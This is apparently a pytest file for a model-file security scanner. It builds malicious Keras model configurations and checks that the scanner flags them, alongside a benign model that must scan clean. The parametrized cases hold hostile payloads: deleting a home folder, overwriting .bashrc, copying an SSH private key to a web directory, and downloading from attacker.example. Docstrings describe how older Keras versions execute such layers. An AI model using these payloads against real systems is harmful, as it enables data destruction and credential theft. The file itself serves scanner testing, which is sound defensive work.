@@ -1,0 +1,142 @@
+"""Bypasses of the non-pickle formats found by an internal red-team pass (containers, Keras, ONNX, GGUF ...).
+
+Each case is built as bytes here and only scanned, never loaded; what the loader does with it is said in the
+docstring (checked against the loader's source when the case was found). Every class has its benign counterparts.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import _container_payloads as cp
+import pytest
+from test_container_bypasses import assert_caught
+from test_container_bypasses import scan as scan_files
+
+from loopwarden.domain import Verdict
+
+# ------------------------------------------------------------------------------ Keras: functions built as layers
+
+
+def _functional(*layers: dict[str, object]) -> dict[str, object]:
+    inp = {
+        "module": "keras.layers",
+        "class_name": "InputLayer",
+        "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "inp"},
+        "registered_name": None,
+        "name": "inp",
+        "inbound_nodes": [],
+    }
+    return {
+        "module": "keras.src.models.functional",
+        "class_name": "Functional",
+        "registered_name": "Functional",
+        "config": {
+            "name": "m",
+            "trainable": True,
+            "layers": [inp, *layers],
+            "input_layers": [["inp", 0, 0]],
+            "output_layers": [["inp", 0, 0]],
+        },
+    }
+
+
+def _function_layer(module: str, name: str, *args: object) -> dict[str, object]:
+    return {
+        "module": module,
+        "class_name": name,
+        "config": {},
+        "registered_name": None,
+        "name": "boom",
+        "inbound_nodes": [{"args": list(args), "kwargs": {}}],
+    }
+
+
+@pytest.mark.parametrize(
+    ("module", "name", "args"),
+    [
+        ("keras.src.utils.file_utils", "rmtree", ("/home/user",)),
+        ("keras.src.utils.file_utils", "remove", ("/home/user/.bashrc",)),
+        ("keras.src.utils.file_utils", "copy", ("/home/user/.ssh/id_rsa", "/srv/www/key")),
+        ("keras.src.utils.file_utils", "urlretrieve", ("http://attacker.example/x", "/home/user/.bashrc")),
+        ("keras.src.utils.file_utils", "File", ("/home/user/.bashrc", "w")),
+        ("keras.src.utils.file_utils", "extract_archive", ("/tmp/x.tar", "/home/user")),
+        ("keras.src.utils.image_utils", "save_img", ("/home/user/.bashrc", [[[0, 0, 0]]])),
+        ("keras.utils", "plot_model", ()),
+        ("keras_hub.src.utils.preset_utils", "load_serialized_object", ("x",)),
+    ],
+)
+def test_keras_function_built_as_a_functional_layer(
+    tmp_path: Path, module: str, name: str, args: tuple[object, ...]
+) -> None:
+    """Keras 3.0-3.10 resolve a layer's class_name in any keras module and return a plain function as it is;
+    the Functional model then calls that "layer" with the node's arguments, safe mode or not (Keras 3.11 added
+    the check that a layer is an Operation). With file_utils.rmtree a loaded model deletes a folder: checked with
+    Keras 3.8.0 (torch backend), whose load_model removed the folder named in the node."""
+    res = scan_files(
+        tmp_path, {"model.keras": cp.keras_zip(_functional(_function_layer(module, name, *args)))}
+    )
+    assert_caught(res, "LW-MODEL-033")
+
+
+def test_keras_torch_module_wrapper_is_named_whatever_its_payload_looks_like(tmp_path: Path) -> None:
+    """TorchModuleWrapper.from_config torch.loads its config's "module" (CVE-2025-49655): reported by the class,
+    not by the base64 text happening to look like a module path (non-validating base64 ignores the dot of a
+    "keras.<base64>" string)."""
+    layer = {
+        "module": "keras.layers",
+        "class_name": "TorchModuleWrapper",
+        "config": {"name": "t", "module": "keras.gASVAAAA"},
+    }
+    res = scan_files(tmp_path, {"model.keras": cp.keras_zip(_functional(layer))})
+    assert_caught(res, "LW-MODEL-033")
+
+
+def test_keras_ordinary_functional_model_stays_clean(tmp_path: Path) -> None:
+    """What Keras 3.8 writes for a Functional model with a keras.ops call, initializers and a regularizer: class
+    names are classes (and the markers Keras handles itself), so nothing is reported."""
+    dense = {
+        "module": "keras.layers",
+        "class_name": "Dense",
+        "config": {
+            "units": 4,
+            "activation": "gelu",
+            "kernel_initializer": {
+                "module": "keras.initializers",
+                "class_name": "GlorotUniform",
+                "config": {},
+            },
+            "kernel_regularizer": {
+                "module": "keras.regularizers",
+                "class_name": "L2",
+                "config": {"l2": 0.01},
+            },
+            "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}},
+        },
+        "registered_name": None,
+        "name": "dense",
+        "inbound_nodes": [
+            {
+                "args": [
+                    {
+                        "class_name": "__keras_tensor__",
+                        "config": {"shape": [None, 2], "dtype": "float32", "keras_history": ["inp", 0, 0]},
+                    }
+                ],
+                "kwargs": {},
+            }
+        ],
+    }
+    add = {
+        "module": "keras.src.ops.numpy",
+        "class_name": "Add",
+        "config": {"name": "add"},
+        "registered_name": "Add",
+        "name": "add",
+        "inbound_nodes": [],
+    }
+    loss = {"module": "keras.losses", "class_name": "function", "config": "mean_squared_error"}
+    cfg = _functional(dense, add)
+    cfg["compile_config"] = {"loss": loss, "optimizer": {"module": "keras.optimizers", "class_name": "AdamW"}}
+    res = scan_files(tmp_path, {"model.keras": cp.keras_zip(cfg)})
+    assert res[0].verdict is Verdict.CLEAN, res[0]
